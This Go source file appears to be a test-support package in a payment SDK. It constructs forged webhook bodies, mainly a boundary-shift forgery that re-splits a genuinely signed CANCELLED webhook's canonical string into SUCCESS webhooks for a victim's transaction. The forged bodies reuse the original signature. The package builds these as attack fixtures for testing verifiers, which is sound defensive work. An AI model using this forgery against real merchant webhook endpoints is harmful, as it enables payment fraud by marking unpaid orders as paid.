// Package forge builds what an attacker posts to a webhook endpoint, which webhook.Sign refuses
// to make: bodies signed over a canonical string given verbatim, the boundary-shift forgery
// built from a genuine signature over an ambiguous body ([Shift]), and hostile bodies built to
// cost a verifier most ([HostileBodies]). Tests and the fake LakiPay's hostile deliveries
// (package contracttest) use it; nothing here verifies anything, and package client never
// imports it: attack tools stay out of merchants' servers.
package forge

import (
	"bytes"
	"crypto"
	"crypto/rsa"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"slices"
	"strings"

	"github.com/lakipay/checkout-go/internal/webhook"
)

// SignCanonical returns the base64 RSA PKCS#1 v1.5 signature of the SHA-256 of canonical,
// made with key: what a signer that checks nothing would put in a webhook's signature field.
func SignCanonical(key *rsa.PrivateKey, canonical string) (string, error) {
	if key == nil {
		return "", webhook.ErrNoKey
	}
	digest := sha256.Sum256([]byte(canonical))
	sig, err := rsa.SignPKCS1v15(nil, key, crypto.SHA256, digest[:])
	if err != nil {
		return "", err
	}
	return base64.StdEncoding.EncodeToString(sig), nil
}

// WithSignature returns body, a JSON object without a signature field, with a last field
// "signature" set to sig.
func WithSignature(body, sig string) string {
	return strings.TrimSuffix(strings.TrimSpace(body), "}") + `,"` + webhook.SignatureField + `":"` + sig + `"}`
}

// NaiveCanonical is the canonical string of LakiPay's documentation computed as a verifier
// without any ambiguity check would: every top-level field but "signature", sorted by key,
// as key=value joined with "&", a string without its quotes and anything else as its JSON
// text. It proves that a forgery really carries a genuine signature.
func NaiveCanonical(body string) (string, error) {
	dec := json.NewDecoder(strings.NewReader(body))
	dec.UseNumber()
	var fields map[string]any
	if err := dec.Decode(&fields); err != nil {
		return "", err
	}
	keys := make([]string, 0, len(fields))
	for k := range fields {
		if k != webhook.SignatureField {
			keys = append(keys, k)
		}
	}
	slices.Sort(keys)
	parts := make([]string, len(keys))
	for i, k := range keys {
		var value string
		switch v := fields[k].(type) {
		case string:
			value = v
		case json.Number:
			value = v.String()
		default:
			text, err := jsonText(v)
			if err != nil {
				return "", err
			}
			value = text
		}
		parts[i] = k + "=" + value
	}
	return strings.Join(parts, "&"), nil
}

// jsonText is v's compact JSON text, without HTML escaping.
func jsonText(v any) (string, error) {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		return "", err
	}
	return strings.TrimSuffix(buf.String(), "\n"), nil
}

// Shift is the boundary-shift forgery. Original is a CANCELLED webhook of the attacker's own
// transaction whose reference the attacker chose; LakiPay signed it genuinely. The forged
// bodies re-split the same canonical string into a SUCCESS webhook of the victim's
// transaction, moving the rest of the original into an extra key (ThroughKey) or into
// transaction_id's value (ThroughValue), and carry the original's signature.
type Shift struct {
	// Canonical is the canonical string all three bodies share.
	Canonical string
	// Original is the genuine, signed CANCELLED webhook with the attacker's reference.
	Original string
	// ThroughKey says SUCCESS for the victim; the tail hides in an extra top-level key.
	ThroughKey string
	// ThroughValue says SUCCESS; the tail hides in the transaction_id value.
	ThroughValue string
}

// ShiftParams are the values a [Shift] is made of. None of them may hold "&" (the shift
// would split elsewhere).
type ShiftParams struct {
	// OriginalID is the attacker's transaction, whose CANCELLED webhook LakiPay signed.
	OriginalID string
	// OriginalTime is that webhook's timestamp (RFC 3339).
	OriginalTime string
	// VictimID is the transaction the forged bodies claim SUCCESS for.
	VictimID string
	// Reference is the reference the forged bodies carry: the victim's, so that a receiver
	// that looks its order up by reference finds it.
	Reference string
	// Amount is the amount's JSON number text (1000.5), Currency its currency (ETB).
	Amount, Currency string
	// ClaimedTime is the forged bodies' timestamp (RFC 3339).
	ClaimedTime string
}

// ReportedShift are the values of the forgery as it was first reported: a CANCELLED webhook
// of TXN-real re-split into a SUCCESS webhook of TXN-victim. Tests hold [NewShift] to its
// bodies byte for byte.
var ReportedShift = ShiftParams{
	OriginalID: "TXN-real", OriginalTime: "2026-01-15T10:30:00Z",
	VictimID: "TXN-victim", Reference: "X", Amount: "100", Currency: "ETB",
	ClaimedTime: "2026-01-01T00:00:00Z",
}

// NewShift builds the boundary-shift forgery from p, signing the original body's canonical
// string with key as LakiPay would. It fails if p would not give three bodies that share one
// canonical string.
func NewShift(key *rsa.PrivateKey, p ShiftParams) (Shift, error) {
	for _, v := range []string{p.OriginalID, p.OriginalTime, p.VictimID, p.Reference, p.Amount, p.Currency, p.ClaimedTime} {
		if strings.Contains(v, "&") {
			return Shift{}, errors.New("webhook: a shift's values must not hold \"&\"")
		}
	}
	q := func(s string) string { text, _ := jsonText(s); return text } // a string always encodes
	reference := p.Reference + "&status=SUCCESS&timestamp=" + p.ClaimedTime + "&transaction_id=" + p.VictimID + "&zz"
	tail := "zz&status=CANCELLED&timestamp=" + p.OriginalTime + "&transaction_id"
	common := `"amount":` + p.Amount + `,"currency":` + q(p.Currency)
	original := `{"event":"DEPOSIT","transaction_id":` + q(p.OriginalID) + `,"reference":` + q(reference) +
		`,` + common + `,"status":"CANCELLED","timestamp":` + q(p.OriginalTime) + `}`
	throughKey := `{"event":"DEPOSIT","transaction_id":` + q(p.VictimID) + `,"reference":` + q(p.Reference) +
		`,` + common + `,"status":"SUCCESS","timestamp":` + q(p.ClaimedTime) + `,` + q(tail) + `:` + q(p.OriginalID) + `}`
	throughValue := `{"event":"DEPOSIT","transaction_id":` + q(p.VictimID+"&"+tail+"="+p.OriginalID) +
		`,"reference":` + q(p.Reference) + `,` + common + `,"status":"SUCCESS","timestamp":` + q(p.ClaimedTime) + `}`
	canonical, err := NaiveCanonical(original)
	if err != nil {
		return Shift{}, err
	}
	for _, forged := range []string{throughKey, throughValue} {
		if c, err := NaiveCanonical(forged); err != nil || c != canonical {
			return Shift{}, errors.Join(errors.New("webhook: a forged body does not share the original's canonical string"), err)
		}
	}
	sig, err := SignCanonical(key, canonical)
	if err != nil {
		return Shift{}, err
	}
	return Shift{
		Canonical:    canonical,
		Original:     WithSignature(original, sig),
		ThroughKey:   WithSignature(throughKey, sig),
		ThroughValue: WithSignature(throughValue, sig),
	}, nil
}
